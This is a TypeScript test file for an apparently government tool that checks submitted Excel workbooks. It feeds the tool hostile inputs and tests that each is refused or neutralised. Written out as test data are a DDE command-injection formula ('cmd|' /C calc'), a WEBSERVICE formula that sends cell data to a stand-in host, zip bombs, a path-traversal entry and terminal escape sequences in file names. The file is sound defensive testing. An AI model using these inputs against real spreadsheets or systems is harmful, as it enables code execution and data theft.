/**
 * The ministry's intake under attack (bounded, generated files only): links, FIFOs, folders and its
 * own outputs in the inbox; zip bombs and sheets of a million rows; formulas and hidden sheets that
 * show Excel other numbers than the file holds; control characters and formulas in names; seals
 * edited by hand. One file never stops the batch, and what is left out is named.
 */
import ExcelJS from "exceljs";
import { execFileSync } from "node:child_process";
import { copyFile, lstat, mkdir, readFile, readdir, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { mappeAus, vieleZellen, zipAus } from "../hilfen/zip";
import { leseZip, zipAusTeilen } from "../../cli/zip-grenzen";
import { arbeitsordner, lsz, sha256 } from "./hilfen";

let vorlagen: string;
let beispiel: string;

/** The example workbook, changed by `aendern`, written to `ziel`. */
async function abgewandelt(ziel: string, aendern: (wb: ExcelJS.Workbook) => void | Promise<void>) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(beispiel);
  await aendern(wb);
  await wb.xlsx.writeFile(ziel);
}

function spalte(ws: ExcelJS.Worksheet, kopf: string): number {
  const i = (ws.getRow(1).values as unknown[]).indexOf(kopf);
  if (i < 1) throw new Error(`Spalte ${kopf} fehlt`);
  return i;
}

function parameterZeile(ws: ExcelJS.Worksheet, angabe: string): ExcelJS.Row {
  let treffer: ExcelJS.Row | undefined;
  ws.eachRow((row) => {
    if (row.getCell(1).value === angabe) treffer = row;
  });
  if (!treffer) throw new Error(`Parameter ${angabe} fehlt`);
  return treffer;
}

beforeAll(async () => {
  vorlagen = await arbeitsordner();
  expect((await lsz(["vorlage", "beispiel.xlsx", "--beispiel"], vorlagen)).code).toBe(0);
  beispiel = join(vorlagen, "beispiel.xlsx");
}, 120_000);

describe("the intake folder", () => {
  it("checks regular .xlsx files only, names everything else with its reason, never writes through a link", async () => {
    const ordner = await arbeitsordner();
    const eingang = join(ordner, "eingang");
    await mkdir(eingang);
    await copyFile(beispiel, join(eingang, "ilm.xlsx"));
    await copyFile(beispiel, join(eingang, ".versteckt.xlsx"));
    await mkdir(join(eingang, "ordner.geprueft.xlsx"));
    await writeFile(join(eingang, "~$ilm.xlsx"), "Sperre");
    await writeFile(join(eingang, "bericht.csv"), "a;b\n");
    await writeFile(join(eingang, "anschreiben.pdf"), "%PDF-1.4");
    await copyFile(beispiel, join(eingang, "alt.xls"));
    await symlink("/dev/zero", join(eingang, "null.xlsx"));
    execFileSync("mkfifo", [join(eingang, "fifo.xlsx")]);
    // A link where the annotated copy will go, pointing at a file outside the inbox.
    const ziel = join(ordner, "fremd.txt");
    await writeFile(ziel, "bleibt unverändert");
    await symlink(ziel, join(eingang, "ilm.geprueft.xlsx"));

    const r = await lsz(["pruefen", eingang, "--bericht", join(ordner, "bericht.csv")], ordner);
    expect(r.code).toBe(1); // the example has a Fehler
    expect(r.stdout).toContain("[1/1] ilm.xlsx: Ilm-Kreis");
    for (const teil of [
      "eingang/.versteckt.xlsx (versteckte Datei)",
      "eingang/ordner.geprueft.xlsx (Ordner)",
      "eingang/~$ilm.xlsx (Sperrdatei von Excel",
      "eingang/bericht.csv (keine .xlsx-Datei)",
      "eingang/anschreiben.pdf (keine .xlsx-Datei)",
      "eingang/alt.xls (altes .xls-Format",
      "eingang/null.xlsx (Verknüpfung (Symlink) – ihr wird nicht gefolgt)",
      "eingang/fifo.xlsx (keine normale Datei",
      "eingang/ilm.geprueft.xlsx (Verknüpfung",
    ])
      expect(r.stdout).toContain(teil);
    expect(await readFile(ziel, "utf8")).toBe("bleibt unverändert");
    const kopie = await lstat(join(eingang, "ilm.geprueft.xlsx"));
    expect(kopie.isSymbolicLink()).toBe(false);
    expect(kopie.isFile()).toBe(true);
    const csv = await readFile(join(ordner, "bericht.csv"), "utf8");
    expect(csv).toContain("eingang/fifo.xlsx;;nicht geprüft;;keine normale Datei");
  }, 120_000);

  it("a link or a FIFO named on the command line is refused, not followed or waited for", async () => {
    const ordner = await arbeitsordner();
    await symlink("/dev/zero", join(ordner, "null.xlsx"));
    execFileSync("mkfifo", [join(ordner, "fifo.xlsx")]);
    const r = await lsz(["pruefen", "null.xlsx", "fifo.xlsx"], ordner);
    expect(r.code).toBe(2);
    expect(r.stdout).toContain("null.xlsx (Verknüpfung");
    expect(r.stdout).toContain("fifo.xlsx (keine normale Datei");
  }, 60_000);
});

const VERBUNDEN_BIS_XFD =
  '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row></sheetData><mergeCells count="1"><mergeCell ref="A20:XFD1048576"/></mergeCells>';

describe("each workbook in its own cage", () => {
  it("a file the reader's limits let through but the cage does not: that file 'nicht geprüft: zu groß oder zu verschachtelt', the next is checked, the report is written", async () => {
    const ordner = await arbeitsordner();
    await copyFile(beispiel, join(ordner, "a-gut.xlsx"));
    // 480.000 cells: under the reader's limit, over what a 64 MB cage holds (the example needs less).
    await writeFile(join(ordner, "b-schwer.xlsx"), mappeAus(vieleZellen(30_000)));
    await copyFile(beispiel, join(ordner, "c-gut.xlsx"));
    const r = await lsz(["pruefen", ordner, "--bericht", join(ordner, "b.json")], ordner, {
      LSZ_KAEFIG_MB: "64",
    });
    expect(r.stdout).toContain("[1/3] a-gut.xlsx: Ilm-Kreis – 1 Fehler");
    expect(r.stdout).toContain("b-schwer.xlsx: nicht geprüft: zu groß oder zu verschachtelt");
    expect(r.stdout).toContain("[3/3] c-gut.xlsx: Ilm-Kreis – 1 Fehler");
    const bericht = JSON.parse(await readFile(join(ordner, "b.json"), "utf8")) as {
      dateien: { datei: string; status: string }[];
    };
    expect(bericht.dateien.map((d) => d.status)).toEqual(["geprueft", "nicht_lesbar", "geprueft"]);
    expect(r.code).toBe(1);
  }, 180_000);
});

describe("files made to exhaust the reader", () => {
  it("a zip bomb, a lying zip directory, 1,1 million cells behind <dimension A1:A1>, a merged area A20:XFD1048576: 'zu groß'; the good file is checked", async () => {
    const ordner = await arbeitsordner();
    const nullen = Buffer.alloc(30 * 1024 * 1024);
    await writeFile(
      join(ordner, "a-luege.xlsx"),
      zipAus([{ name: "xl/worksheets/sheet1.xml", daten: nullen, angegeben: 1000 }]),
    );
    await writeFile(
      join(ordner, "b-riesig.xlsx"),
      zipAus([{ name: "xl/media/bild.bin", daten: Buffer.from("klein"), angegeben: 400 * 1024 * 1024 }]),
    );
    await writeFile(join(ordner, "c-zellen.xlsx"), mappeAus(vieleZellen(70_000)));
    await writeFile(join(ordner, "d-verbunden.xlsx"), mappeAus(VERBUNDEN_BIS_XFD));
    await copyFile(beispiel, join(ordner, "e-gut.xlsx"));
    const r = await lsz(["pruefen", ordner], ordner);
    expect(r.stdout).toContain(
      "a-luege.xlsx: zu groß – xl/worksheets/sheet1.xml entpackt sich größer als angegeben",
    );
    expect(r.stdout).toContain("b-riesig.xlsx: zu groß – xl/media/bild.bin ist entpackt 400 MB groß");
    expect(r.stdout).toContain("c-zellen.xlsx: zu groß – die Blätter enthalten über 1.000.000 Zellen");
    expect(r.stdout).toContain(
      "d-verbunden.xlsx: zu groß – xl/worksheets/sheet1.xml verbindet 17.179.557.888 Zellen (höchstens 100.000)",
    );
    expect(r.stdout).toContain("[5/5] e-gut.xlsx: Ilm-Kreis – 1 Fehler");
  }, 180_000);
});

describe("one zip reading: what is checked is what is read", () => {
  const blatt = '<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>';
  const gross = {
    name: "xl/worksheets/sheet1.xml",
    daten: Buffer.from(`<worksheet>${vieleZellen(70_000)}</worksheet>`),
  };
  it.each([
    [
      "versteckt",
      () => mappeAus(blatt, [{ ...gross, name: "xl/worksheets/sheet2.xml" }], { anzahl: 5 }),
      "Zip-Verzeichnis enthält mehr Einträge als angegeben",
    ],
    ["doppelt", () => mappeAus(blatt, [gross]), "doppelter Eintrag im Zip: xl/worksheets/sheet1.xml"],
    [
      "pfad",
      () => mappeAus(blatt, [{ name: "../../etc/x.xml", daten: Buffer.from("<x/>") }]),
      'unzulässiger Name im Zip: "../../etc/x.xml"',
    ],
    [
      "kopf",
      () => mappeAus(blatt, [{ name: "xl/a.xml", lokalerName: "xl/b.xml", daten: Buffer.from("<x/>") }]),
      "xl/a.xml: lokaler Kopf widerspricht dem Zip-Verzeichnis",
    ],
  ])(
    "%s: refused as damaged, with the reason",
    async (name, bytes, grund) => {
      const ordner = await arbeitsordner();
      await writeFile(join(ordner, `${name}.xlsx`), bytes());
      const r = await lsz(["pruefen", `${name}.xlsx`], ordner);
      expect(r.stdout).toContain(
        `${name}.xlsx: die Arbeitsmappe ist beschädigt und kann nicht gelesen werden (${grund}`,
      );
      expect(r.code).toBe(1);
    },
    60_000,
  );
});

describe("two inputs, one output name", () => {
  it("Kreis.xlsx beside Kreis.XLSX, and one name in NFC beside NFD: each gets its own checked copy, the second said once", async () => {
    const ordner = await arbeitsordner();
    const nfc = "Sömmerda".normalize("NFC");
    const nfd = "Sömmerda".normalize("NFD");
    for (const name of ["Kreis.xlsx", "Kreis.XLSX", `${nfc}.xlsx`, `${nfd}.xlsx`])
      await copyFile(beispiel, join(ordner, name));
    const r = await lsz(["pruefen", ordner], ordner);
    const kopien = (await readdir(ordner)).filter((n) => n.endsWith(".geprueft.xlsx")).sort();
    expect(kopien).toHaveLength(4);
    expect(kopien).toContain("Kreis.geprueft.xlsx");
    expect(kopien).toContain("Kreis (2).geprueft.xlsx");
    expect(kopien.filter((n) => n.normalize("NFC").startsWith(`${nfc} (2)`))).toHaveLength(1);
    const hinweise = r.stdout.split("\n").filter((z) => z.includes("die geprüfte Kopie heißt"));
    expect(hinweise).toHaveLength(2);
    expect(hinweise[0]).toContain("Kreis (2).geprueft.xlsx");
  }, 120_000);
});

describe("no active content passes", () => {
  it("WEBSERVICE, FILTERXML, a DDE link, an external reference, an external hyperlink, macros and an external link part: each named (X05), none in the checked copy", async () => {
    const ordner = await arbeitsordner();
    await abgewandelt(join(ordner, "aktiv-roh.xlsx"), (wb) => {
      const ws = wb.addWorksheet("Notizen");
      const f = (formula: string, result: ExcelJS.CellValue) =>
        ({ formula, result }) as ExcelJS.CellFormulaValue;
      ws.getCell("A1").value = f('WEBSERVICE("http://example.invalid/?d="&B1)', "ok");
      ws.getCell("A2").value = f('FILTERXML(A1,"//x")', 3);
      ws.getCell("A3").value = f("cmd|' /C calc'!A0", 7);
      ws.getCell("A4").value = f("[1]Tabelle1!A1", 5);
      ws.getCell("A5").value = f('SUMME(1;2)&"a|b"', "3a|b"); // a '|' inside text is no DDE link
      ws.getCell("A6").value = { text: "Förderportal", hyperlink: "http://example.invalid/portal" };
    });
    // Parts exceljs cannot write, added to the package: macros and a DDE link to another program.
    const teile = leseZip(await readFile(join(ordner, "aktiv-roh.xlsx")));
    const text = (name: string, s: string) => ({ name, inhalt: Buffer.from(s) });
    teile.push(
      text("xl/vbaProject.bin", 'Attribute VB_Name = "Modul1"'),
      text(
        "xl/externalLinks/externalLink1.xml",
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
      ),
      text(
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        '<Relationships><Relationship Id="rId1" Type="x" Target="file:///C:/geheim.xlsx" TargetMode="External"/></Relationships>',
      ),
    );
    await writeFile(join(ordner, "aktiv.xlsx"), zipAusTeilen(teile));

    const r = await lsz(["pruefen", "aktiv.xlsx", "--bericht", "b.json"], ordner);
    expect(r.stdout).toContain("aktiv.xlsx: Ilm-Kreis");
    const bericht = JSON.parse(await readFile(join(ordner, "b.json"), "utf8")) as {
      dateien: { befunde: { regel: string; blatt: string; zelle: string | null; meldung: string }[] }[];
    };
    const x05 = bericht.dateien[0]!.befunde.filter((b) => b.regel === "X05");
    const zellen = x05.filter((b) => b.blatt === "Notizen").map((b) => [b.zelle, b.meldung]);
    expect(zellen.map(([z]) => z)).toEqual(["A1", "A2", "A3", "A4", "A6"]);
    expect(zellen[0]![1]).toContain("ruft WEBSERVICE auf");
    expect(zellen[2]![1]).toContain("DDE-Verknüpfung");
    expect(zellen[3]![1]).toContain("andere Arbeitsmappe");
    expect(zellen[4]![1]).toContain("Link nach außen (http://example.invalid/portal)");
    const mappe = x05.filter((b) => b.zelle === null).map((b) => b.meldung);
    expect(mappe.some((m) => m.includes("Makros (xl/vbaProject.bin)"))).toBe(true);
    expect(mappe.some((m) => m.includes("DDE-Verknüpfung (xl/externalLinks/externalLink1.xml)"))).toBe(true);
    expect(mappe.some((m) => m.includes("verweist nach außen (xl/externalLinks/_rels/"))).toBe(true);

    // The checked copy: stored values instead of the formulas, the link's text, no such parts.
    const kopie = await readFile(join(ordner, "aktiv.geprueft.xlsx"));
    const namen = leseZip(kopie).map((t) => t.name);
    expect(namen.filter((n) => /vbaProject|externalLink/i.test(n))).toEqual([]);
    // (The Prüfbericht quotes the formulas as text, and its own links say „#Blatt!A1“.)
    for (const t of leseZip(kopie)) {
      const xml = t.inhalt.toString("utf8");
      expect(xml).not.toMatch(/<f>[^<]*(WEBSERVICE|FILTERXML|cmd\||\[1\])/);
      expect(xml).not.toMatch(/Target="[^#"][^"]*" TargetMode="External"/);
    }
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(kopie as unknown as ExcelJS.Buffer);
    const ws = wb.getWorksheet("Notizen")!;
    expect(["A1", "A2", "A3", "A4", "A6"].map((a) => ws.getCell(a).value)).toEqual([
      "ok",
      3,
      7,
      5,
      "Förderportal",
    ]);
    expect(ws.getCell("A5").formula).toBe('SUMME(1;2)&"a|b"');
  }, 120_000);
});

describe("what Excel shows is what is checked", () => {
  it("input cells with formulas: the stored result is checked and named (X01); without a result, X02", async () => {
    const ordner = await arbeitsordner();
    await abgewandelt(join(ordner, "formel.xlsx"), (wb) => {
      const fp = wb.getWorksheet("Finanzplan")!;
      const lm = spalte(fp, "Landesmittel");
      fp.getRow(2).getCell(lm).value = { formula: "D2*0.7", result: 42000 } as ExcelJS.CellFormulaValue;
      fp.getRow(3).getCell(lm).value = { formula: "D3*0.7" } as ExcelJS.CellFormulaValue;
    });
    const r = await lsz(["pruefen", "formel.xlsx", "--bericht", "b.json"], ordner);
    const bericht = JSON.parse(await readFile(join(ordner, "b.json"), "utf8")) as {
      dateien: { befunde: { regel: string; schwere: string; zelle: string; meldung: string }[] }[];
    };
    const b = bericht.dateien[0]!.befunde;
    const x01 = b.find((x) => x.regel === "X01")!;
    expect(x01).toMatchObject({ schwere: "warnung" });
    expect(x01.meldung).toContain("=D2*0.7");
    expect(x01.meldung).toContain("42000");
    expect(b.find((x) => x.regel === "X02")).toMatchObject({ schwere: "fehler" });
    expect(b.find((x) => x.regel === "X02")!.meldung).toContain("in Excel öffnen und speichern");
    expect(r.code).toBe(1);
  }, 60_000);

  it("a number format with digits as text, and one that hides the value: each cell named (X06)", async () => {
    const ordner = await arbeitsordner();
    await abgewandelt(join(ordner, "format.xlsx"), (wb) => {
      const fp = wb.getWorksheet("Finanzplan")!;
      const lm = spalte(fp, "Landesmittel");
      // A style of its own per cell (exceljs shares one style object between the column's cells).
      const format = (zeile: number, numFmt: string) => {
        const zelle = fp.getRow(zeile).getCell(lm);
        zelle.style = { ...zelle.style, numFmt };
      };
      format(2, '"30.000,00 €"');
      format(3, ";;;");
    });
    await lsz(["pruefen", "format.xlsx", "--bericht", "b.json"], ordner);
    const bericht = JSON.parse(await readFile(join(ordner, "b.json"), "utf8")) as {
      dateien: { befunde: { regel: string; blatt: string; zelle: string; meldung: string }[] }[];
    };
    const x06 = bericht.dateien[0]!.befunde.filter((b) => b.regel === "X06");
    expect(x06).toHaveLength(2);
    expect(x06.every((b) => b.blatt === "Finanzplan")).toBe(true);
    expect(x06[0]!.meldung).toMatch(/^Finanzplan [A-Z]+2 enthält .*zeigt feste Ziffern als Text/);
    expect(x06[1]!.meldung).toMatch(/^Finanzplan [A-Z]+3 enthält .*verbirgt den Wert/);
  }, 60_000);

  it("a Nr merged over two year rows: only the first cell counts, the area named (X07)", async () => {
    // A habit of hand-made plans: one Maßnahme's Nr merged over its year rows. Excel keeps a merged
    // area's value in its first cell only (Microsoft: „Merge and unmerge cells“ — only the upper-left
    // cell's content is kept); exceljs reads the first cell's value into every cell of the area. What
    // Excel holds is what is checked: the second row has no Nr, and X07 says why.
    const ordner = await arbeitsordner();
    let nr = "";
    await abgewandelt(join(ordner, "verbund.xlsx"), (wb) => {
      const fp = wb.getWorksheet("Finanzplan")!;
      const c = spalte(fp, "Maßnahme-Nr.");
      nr = String.fromCharCode(64 + c); // a column of the first 26
      fp.mergeCells(2, c, 3, c);
    });
    await lsz(["pruefen", "verbund.xlsx", "--bericht", "b.json"], ordner);
    const bericht = JSON.parse(await readFile(join(ordner, "b.json"), "utf8")) as {
      dateien: {
        befunde: { regel: string; schwere: string; blatt: string; zelle: string; meldung: string }[];
      }[];
    };
    const b = bericht.dateien[0]!.befunde;
    const x07 = b.filter((x) => x.regel === "X07");
    expect(x07).toHaveLength(1);
    expect(x07[0]).toMatchObject({ schwere: "warnung", blatt: "Finanzplan", zelle: `${nr}2` });
    expect(x07[0]!.meldung).toContain(
      `Finanzplan ${nr}2:${nr}3 sind verbundene Zellen: nur ${nr}2 enthält einen Wert`,
    );
    // The second row is read as Excel holds it: without a Nr, and that is named at its cell.
    expect(b.some((x) => x.blatt === "Finanzplan" && x.zelle === `${nr}3` && x.schwere === "fehler")).toBe(
      true,
    );
  }, 60_000);

  it("a very hidden copy of the Finanzplan with ten times the amounts: the visible one is checked, both named (X04)", async () => {
    const ordner = await arbeitsordner();
    await abgewandelt(join(ordner, "versteckt.xlsx"), (wb) => {
      const sichtbar = wb.getWorksheet("Finanzplan")!;
      const kopie = wb.addWorksheet("Finanzplan alt", { state: "veryHidden" });
      sichtbar.eachRow((row, nr) => {
        const werte = (row.values as ExcelJS.CellValue[]).map((v) =>
          typeof v === "number" && nr > 1 && v > 3000 ? v * 10 : v,
        );
        kopie.getRow(nr).values = werte;
      });
    });
    const r = await lsz(["pruefen", "versteckt.xlsx", "--bericht", "b.json"], ordner);
    const bericht = JSON.parse(await readFile(join(ordner, "b.json"), "utf8")) as {
      dateien: { landesmittel_eur: number; befunde: { regel: string; meldung: string }[] }[];
    };
    expect(bericht.dateien[0]!.landesmittel_eur).toBe(445785); // the visible sheet's amounts
    const x04 = bericht.dateien[0]!.befunde.find((b) => b.regel === "X04")!;
    expect(x04.meldung).toContain("„Finanzplan alt“ – ausgeblendet");
    expect(r.code).toBe(1);
  }, 60_000);

  it("the only Finanzplan on a hidden sheet is checked and said so (X03)", async () => {
    const ordner = await arbeitsordner();
    await abgewandelt(join(ordner, "ausgeblendet.xlsx"), (wb) => {
      wb.getWorksheet("Finanzplan")!.state = "hidden";
    });
    await lsz(["pruefen", "ausgeblendet.xlsx", "--bericht", "b.json"], ordner);
    const bericht = JSON.parse(await readFile(join(ordner, "b.json"), "utf8")) as {
      dateien: { befunde: { regel: string; meldung: string }[] }[];
    };
    expect(bericht.dateien[0]!.befunde.find((b) => b.regel === "X03")!.meldung).toContain(
      "ausgeblendeten Blatt „Finanzplan“",
    );
  }, 60_000);
});

describe("names and cells that try to become formulas or terminal commands", () => {
  it("a Kreis name with a formula and a newline; file names starting with '=' or holding an ESC sequence", async () => {
    const ordner = await arbeitsordner();
    await abgewandelt(join(ordner, "=1+1.xlsx"), (wb) => {
      parameterZeile(wb.getWorksheet("Parameter")!, "Kreis").getCell(2).value =
        '=HYPERLINK("http://example.invalid";"klick")\nFAKE  0  0  0';
    });
    await copyFile(beispiel, join(ordner, "x\u001b[2Jy.xlsx"));
    const r = await lsz(["pruefen", "=1+1.xlsx", "x\u001b[2Jy.xlsx", "--bericht", "b.csv"], ordner);
    expect(r.stdout).not.toContain("\u001b");
    expect(r.stdout).toContain("x\\u001b[2Jy.xlsx");
    expect(r.stdout).toContain('"klick")\\nFAKE');
    expect(r.stdout).not.toMatch(/^FAKE/m);
    const csv = await readFile(join(ordner, "b.csv"), "utf8");
    expect(csv).toContain(`"'=1+1.xlsx";"'=HYPERLINK(""http://example.invalid"";""klick"")`);
    expect(csv.split("\r\n").every((z) => !/(^|;)[=+@]/.test(z))).toBe(true);
  }, 60_000);

  it("lsz verteilen --ausgabe x.csv: a region name starting with '=' stays text", async () => {
    const ordner = await arbeitsordner();
    await abgewandelt(join(ordner, "regionen.xlsx"), (wb) => {
      const ind = wb.getWorksheet("Indikatoren")!;
      ind.getRow(2).getCell(spalte(ind, "Name")).value = "=cmd|' /C calc'!A0";
    });
    await lsz(["verteilen", "regionen.xlsx", "--haushaltsmittel", "10000000", "--ausgabe", "v.csv"], ordner);
    const csv = await readFile(join(ordner, "v.csv"), "utf8");
    expect(csv).toContain(`"'=cmd|' /C calc'!A0"`);
  }, 60_000);
});

describe("a seal that cannot be bent", () => {
  async function gepruefteKopie(ordner: string) {
    await copyFile(beispiel, join(ordner, "a.xlsx"));
    await lsz(["pruefen", "a.xlsx"], ordner);
    return join(ordner, "a.geprueft.xlsx");
  }

  it("counts set to 0 and the date to 2019 by hand: 'nicht signiert', and the counts of the check now beside the sealed ones", async () => {
    const ordner = await arbeitsordner();
    const kopie = await gepruefteKopie(ordner);
    // The seal's data stand on the hidden sheet „LSZ-Siegel“ (label A, value B); unhidden by hand here.
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(kopie);
    const pb = wb.getWorksheet("LSZ-Siegel")!;
    pb.eachRow((row) => {
      const label = row.getCell(1).value;
      if (label === "Siegeldaten") {
        const s = JSON.parse(String(row.getCell(2).value)) as { aussage: Record<string, unknown> };
        s.aussage["anzahl"] = { fehler: 0, warnung: 0, hinweis: 0 };
        s.aussage["zeit"] = "2019-01-01T00:00:00.000Z";
        row.getCell(2).value = JSON.stringify(s);
      }
      if (label === "Befunde") row.getCell(2).value = "0 Fehler, 0 Warnungen, 0 Hinweise";
      if (label === "geprüft am") row.getCell(2).value = "01.01.2019, 01:00 Uhr";
    });
    await wb.xlsx.writeFile(join(ordner, "b.xlsx"));
    const r = await lsz(["pruefen", "b.xlsx"], ordner);
    expect(r.stdout).toContain(
      "nicht signiert (lokal geprüft) – Befunde jetzt: 1 Fehler, 2 Warnungen, 0 Hinweise (im Siegel: 0 Fehler, 0 Warnungen, 0 Hinweise)",
    );
    expect(r.stdout).not.toContain("gültig");
  }, 60_000);

  it("only the readable line changed: not what was sealed; an old-format seal: 'veraltet (altes Siegelformat)'; unexpected JSON: 'unlesbar', and the next file is checked", async () => {
    const ordner = await arbeitsordner();
    const kopie = await gepruefteKopie(ordner);
    const schreibe = async (name: string, aendern: (label: unknown, row: ExcelJS.Row) => void) => {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(kopie);
      wb.getWorksheet("LSZ-Siegel")!.eachRow((row) => aendern(row.getCell(1).value, row));
      await wb.xlsx.writeFile(join(ordner, name));
    };
    await schreibe("c-zeile.xlsx", (l, row) => {
      if (l === "Befunde") row.getCell(2).value = "0 Fehler, 0 Warnungen, 0 Hinweise";
    });
    await schreibe("d-alt.xlsx", (l, row) => {
      if (l === "Prüfsiegel") row.getCell(2).value = "LSZ-Siegel-1";
    });
    await schreibe("e-json.xlsx", (l, row) => {
      if (l === "Siegeldaten") row.getCell(2).value = '{"aussage":{"format":"LSZ-Siegel-3"},"werte":5}';
    });
    const hashVorher = await sha256(join(ordner, "e-json.xlsx"));
    const r = await lsz(["pruefen", "c-zeile.xlsx", "d-alt.xlsx", "e-json.xlsx", "a.xlsx"], ordner);
    // The verdict stands on its own line under the file's result (the summary fits 100 columns).
    expect(r.stdout).toMatch(/c-zeile\.xlsx: .*\n\s+Siegel beim Eingang: nicht signiert \(lokal geprüft\)/);
    expect(r.stdout).toMatch(/d-alt\.xlsx: .*\n\s+Siegel beim Eingang: veraltet \(altes Siegelformat\)/);
    expect(r.stdout).toMatch(
      /e-json\.xlsx: .*\n\s+Siegel beim Eingang: Siegel unlesbar \(unbekanntes Siegelformat\)/,
    );
    expect(r.stdout).toContain("[4/4] a.xlsx: Ilm-Kreis");
    expect(await sha256(join(ordner, "e-json.xlsx"))).toBe(hashVorher);
  }, 180_000); // five runs of lsz, each file in its own child process
});
